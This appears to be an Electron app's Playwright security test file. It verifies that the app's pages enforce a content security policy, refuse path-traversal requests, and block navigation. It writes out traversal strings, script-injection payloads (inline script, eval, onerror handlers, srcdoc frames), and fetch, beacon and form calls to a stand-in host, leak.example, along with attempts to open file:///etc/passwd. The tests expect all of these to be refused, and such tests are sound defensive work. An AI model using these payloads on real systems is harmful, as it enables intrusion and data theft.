/**
 * The restrictions of our pages by policy in the real program, whatever runs in them. SECURITY.md maps the tests to Electron's security
 * checklist.
 */
import { readdirSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { z } from 'zod';
import { contentSecurityPolicy } from '#core/program/serve-page.ts';
import { pagesOf, test } from './support/pages-of.ts';
import { expect, type RunningApp } from './support/running-app.ts';

const built = resolve(import.meta.dirname, '../../out/renderer');

/** Every answer of app:// carries the policy, and nothing outside of the pages is answered. */
async function expectAnswers(app: RunningApp): Promise<void> {
  const files = readdirSync(built, { recursive: true, encoding: 'utf8' }).filter((name) => /\.(html|js|css|woff2)$/.test(name));
  expect(files.length).toBeGreaterThan(5);
  const outside = [
    '',
    'package.json',
    '../main/index.js',
    '%2e%2e/main/index.js',
    '..%2fmain%2findex.js',
    '..%5cmain%5cindex.js',
    '%2e%2e%2f%2e%2e%2fpackage.json',
    '%e0%a4%a',
    'popover/index.html%00.js',
    'not-there.js',
  ];
  const answers = await app.electron.evaluate(
    async ({ session }, names) =>
      Promise.all(
        names.map(async (name) => {
          const { status, headers } = await session.defaultSession.fetch(`app://clocktower/${name}`);
          return { name, status, policy: headers.get('content-security-policy'), sniffing: headers.get('x-content-type-options') };
        }),
      ),
    [...files, ...outside],
  );
  expect(answers).toEqual([
    ...files.map((name) => ({ name, status: 200, policy: contentSecurityPolicy, sniffing: 'nosniff' })),
    ...outside.map((name) => ({ name, status: 404, policy: contentSecurityPolicy, sniffing: 'nosniff' })),
  ]);
  const elsewhere = await app.electron.evaluate(
    async ({ session }, addresses) => {
      const outcomes = await Promise.allSettled(addresses.map(async (address) => session.defaultSession.fetch(address)));
      return outcomes.map(({ status }) => status);
    },
    ['app://elsewhere/popover/index.html', 'file:///etc/passwd', 'http://127.0.0.1:1/', 'https://leak.example/'],
  );
  expect(elsewhere).toEqual(['rejected', 'rejected', 'rejected', 'rejected']);
}

test('no text becomes a script, and nothing is loaded from elsewhere, in any page', async ({ startApp, absence, profile }) => {
  const app = await startApp();
  for (const page of await pagesOf(app, { absence, profile })) {
    const outcome = await page.evaluate(async () => {
      const violations = new Set<string>();
      Reflect.set(globalThis, 'violations', violations);
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violations.add(effectiveDirective));
      // A driver may evaluate text until the next turn of the event loop.
      await new Promise((turned) => {
        const { port1, port2 } = new MessageChannel();
        port1.addEventListener('message', turned);
        port1.start();
        port2.postMessage(null);
      });
      const ran: string[] = [];
      Reflect.set(globalThis, 'ran', (what: string) => ran.push(what));
      // oxlint-disable-next-line consistent-function-scoping -- all of this is handed to the page as one function.
      const attempt = (what: string, act: () => unknown): string | null => {
        try {
          act();
          return what;
        } catch {
          return null;
        }
      };
      // oxlint-disable-next-line consistent-function-scoping -- all of this is handed to the page as one function.
      const add = (name: string, attributes: Readonly<Record<string, string>>, text = ''): void => {
        const element = document.createElement(name);
        element.append(text);
        for (const [attribute, value] of Object.entries(attributes)) {
          element.setAttribute(attribute, value);
        }
        document.body.append(element);
      };
      const went = [
        attempt('a script element', () => add('script', {}, 'ran("inline")')),
        attempt('a remote script', () => add('script', { src: 'https://leak.example/x.js' })),
        attempt('a script in data', () => add('script', { src: 'data:text/javascript,ran("data")' })),
        attempt('a script in a blob', () => add('script', { src: URL.createObjectURL(new Blob(['ran("blob")'])) })),
        // oxlint-disable-next-line no-eval -- what is to be refused.
        attempt('eval', () => globalThis.eval('ran("eval")')),
        attempt('Function', () => Reflect.construct(Function, ['ran("Function")'])()),
        attempt('a timer with text', () => Reflect.apply(setTimeout, undefined, ['ran("timer")', 0])),
        attempt('markup', () => {
          document.body.innerHTML += '<img src="x" onerror="ran(1)">';
        }),
        attempt('a document of text', () => document.write('<script>ran("write")</script>')),
        attempt('a frame of text', () => add('iframe', { srcdoc: '<script>parent.ran("frame")</script>' })),
        attempt('a policy', () => {
          const factory: unknown = Reflect.get(globalThis, 'trustedTypes');
          Reflect.apply(Reflect.get(Object(factory), 'createPolicy'), factory, ['mine', { createHTML: String }]);
        }),
        // In this order: an image with a source would load, and report its failure at any later time.
        attempt('a handler', () => add('img', { onerror: 'ran("handler")', src: 'x' })),
        attempt('an object', () => add('object', { data: 'https://leak.example/x.svg' })),
        attempt('a worker', () => new Worker('https://leak.example/x.js')),
      ].filter((what) => what !== null);
      add('img', { src: 'https://leak.example/x.png' });
      add('link', { rel: 'stylesheet', href: 'https://leak.example/x.css' });
      add('style', {}, '* { color: red }');
      add('p', { style: 'color: red' });
      add('iframe', { src: 'https://leak.example/' });
      add('base', { href: 'https://leak.example/' });
      add('video', { src: 'https://leak.example/x.mp4' });
      add('link', { rel: 'manifest', href: 'https://leak.example/x.json' });
      const fetched = await fetch('https://leak.example/').then(
        () => 'answered',
        () => 'refused',
      );
      const posted = navigator.sendBeacon('https://leak.example/', 'x');
      return { ran, went, fetched, posted, base: document.baseURI.startsWith('app://clocktower/') };
    });
    expect(outcome.ran).toEqual([]);
    // A script element may be inserted into a page but never runs.
    expect(outcome).toEqual({ ran: [], went: ['a script element'], fetched: 'refused', posted: true, base: true });
    // Reported in separate turns by Chromium.
    await expect
      .poll(async () => page.evaluate(() => [...Reflect.get(globalThis, 'violations')]))
      .toEqual(
        expect.arrayContaining([
          'require-trusted-types-for',
          'trusted-types',
          'style-src-elem',
          'style-src-attr',
          'base-uri',
          'connect-src',
          'img-src',
          'media-src',
          'frame-src',
        ]),
      );
  }
  app.problems.splice(0);
});

/** Attempts to navigate that the main process saw. */
interface Watched {
  /** URLs that a frame tried to navigate to. */
  readonly wanted: readonly string[];
  /** URLs that a frame navigated to. */
  readonly gone: readonly string[];
  readonly windows: number;
  readonly downloads: number;
}

async function watch(app: RunningApp): Promise<() => Promise<Watched>> {
  await app.electron.evaluate(({ webContents, session }) => {
    const seen = { wanted: new Array<string>(), gone: new Array<string>(), downloads: 0 };
    Reflect.set(globalThis, 'seen', seen);
    for (const contents of webContents.getAllWebContents()) {
      contents.on('will-frame-navigate', ({ url }) => seen.wanted.push(url));
      contents.on('did-navigate', (_event, url) => seen.gone.push(url));
      contents.on('did-frame-navigate', (_event, url) => seen.gone.push(url));
    }
    session.defaultSession.on('will-download', (event) => {
      seen.downloads += event.defaultPrevented ? 0 : 1;
    });
  });
  const schema = z.object({ wanted: z.array(z.string()), gone: z.array(z.string()), downloads: z.number(), windows: z.number() });
  return async () =>
    schema.parse(
      await app.electron.evaluate(({ BrowserWindow }) => ({
        ...Reflect.get(globalThis, 'seen'),
        windows: BrowserWindow.getAllWindows().length,
      })),
    );
}

test('a page stays where it is, whatever is clicked, dropped or written into it', async ({ startApp, absence, profile }) => {
  const app = await startApp();
  const pages = await pagesOf(app, { absence, profile });
  const report = await watch(app);
  const dropped = join(profile, 'dropped.html');
  writeFileSync(dropped, '<title>dropped</title>');
  for (const page of pages) {
    const url = page.url();
    for (const address of [
      'https://leak.example/location',
      'http://127.0.0.1:1/',
      'app://elsewhere/',
      'clocktower://start',
      'mailto:a@leak.example',
    ]) {
      await page.evaluate((to) => {
        location.href = to;
      }, address);
      await expect.poll(async () => (await report()).wanted.filter((wanted) => wanted === address).length).toBe(pages.indexOf(page) + 1);
    }
    // Chromium itself blocks pages from files, before the handler runs.
    await page.evaluate(() => {
      location.href = 'file:///etc/passwd';
      const meta = document.createElement('meta');
      meta.httpEquiv = 'refresh';
      meta.content = '0; url=https://leak.example/refresh';
      document.head.append(meta);
    });
    await expect
      .poll(async () => (await report()).wanted.filter((wanted) => wanted.endsWith('/refresh')).length)
      .toBe(pages.indexOf(page) + 1);
    const addresses = [
      'https://leak.example/open',
      'app://clocktower/window/index.html',
      'about:blank',
      'file:///etc/passwd',
      'javascript:1',
    ];
    const opened = await page.evaluate(
      (all) => all.filter((address) => window.open(address, '_blank', 'nodeIntegration=yes,contextIsolation=no,sandbox=no') !== null),
      addresses,
    );
    expect(opened).toEqual([]);
    await page.evaluate(() => {
      const link = document.createElement('a');
      link.id = 'away';
      link.textContent = 'elsewhere';
      link.href = 'https://leak.example/link';
      link.className = 'sr-only';
      document.body.append(link);
    });
    for (const init of [{ button: 1 }, { button: 0, ctrlKey: true }, { button: 0, shiftKey: true }, { button: 0, metaKey: true }]) {
      await page.locator('#away').dispatchEvent(init.button === 1 ? 'auxclick' : 'click', init);
    }
    await page.evaluate(() => {
      const link = document.createElement('a');
      link.download = 'taken.txt';
      link.href = URL.createObjectURL(new Blob(['taken']));
      link.click();
      const form = document.createElement('form');
      form.action = 'https://leak.example/form';
      document.body.append(form);
      form.submit();
    });
    const session = await page.context().newCDPSession(page);
    const data = { items: [], files: [dropped], dragOperationsMask: 1 };
    for (const type of ['dragEnter', 'dragOver', 'drop'] as const) {
      await session.send('Input.dispatchDragEvent', { type, x: 40, y: 40, data });
    }
    await session.detach();
    expect(page.url()).toBe(url);
  }
  const after = await report();
  expect(after).toMatchObject({ gone: [], windows: pages.length, downloads: 0 });
  app.problems.splice(0);
});

test('every answer carries the policy, no page embeds another, and no frame within one may ask', async ({ startApp }) => {
  const app = await startApp();
  const popover = await app.popover();
  await expectAnswers(app);
  const frames = await popover.evaluate(() => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const webview = document.createElement('webview');
    webview.setAttribute('src', 'https://leak.example/');
    document.body.append(webview);
    return {
      bridge: frame.contentWindow !== null && 'clocktower' in frame.contentWindow,
      shadow: webview.shadowRoot !== null,
      own: 'getWebContentsId' in webview,
    };
  });
  expect(frames).toEqual({ bridge: false, shadow: false, own: false });
  // Windows with weaker preferences than ours, to test the other restrictions.
  const preload = resolve(import.meta.dirname, '../../out/preload/index.cjs');
  const careless = async (address: string, preferences: object) => {
    const opened = app.electron.waitForEvent('window');
    const attached = await app.electron.evaluate(
      async ({ BrowserWindow }, given) => {
        const window = new BrowserWindow({ show: false, webPreferences: { preload: given.preload, ...given.preferences } });
        let count = 0;
        window.webContents.on('did-attach-webview', () => {
          count += 1;
        });
        Reflect.set(globalThis, 'attached', () => count);
        await window.loadURL(given.address);
      },
      { address, preferences, preload },
    );
    expect(attached).toBeUndefined();
    return opened;
  };
  const refused = { ok: false, failure: { kind: 'bad-request', detail: 'this page may not ask' } };
  const foreign = await careless('data:text/html,foreign', { partition: 'elsewhere' });
  expect(await foreign.evaluate(async () => window.clocktower?.getView())).toEqual(refused);
  expect(await foreign.evaluate(async () => window.clocktower?.startTimer({ description: 'foreign', at: null }))).toEqual(refused);
  // Pages on our origin without our policy: even then no frame in them navigates.
  await app.electron.evaluate(({ session }) => {
    const pages = new Map([
      ['/outer', '<iframe src="app://clocktower/inner"></iframe>'],
      ['/inner', 'inner'],
    ]);
    session
      .fromPartition('elsewhere')
      .protocol.handle(
        'app',
        (request) => new Response(pages.get(new URL(request.url).pathname), { headers: { 'content-type': 'text/html' } }),
      );
  });
  const outer = await careless('app://clocktower/outer', { partition: 'elsewhere', nodeIntegrationInSubFrames: true, webviewTag: true });
  expect(await outer.evaluate(async () => window.clocktower?.getView())).toMatchObject({ ok: true });
  const inner = await (await outer.waitForSelector('iframe')).contentFrame();
  expect(inner?.url()).toBe('');
  const embeds = await outer.evaluate(async () => {
    const webview = document.createElement('webview');
    webview.setAttribute('src', 'data:text/html,embedded');
    document.body.append(webview);
    // Attachments are reported to the main process before the next request.
    await window.clocktower?.getView();
    return 'getWebContentsId' in webview;
  });
  expect(embeds).toBe(true);
  expect(await app.electron.evaluate(() => Reflect.apply(Reflect.get(globalThis, 'attached'), undefined, []))).toBe(0);
  app.problems.splice(0);
});
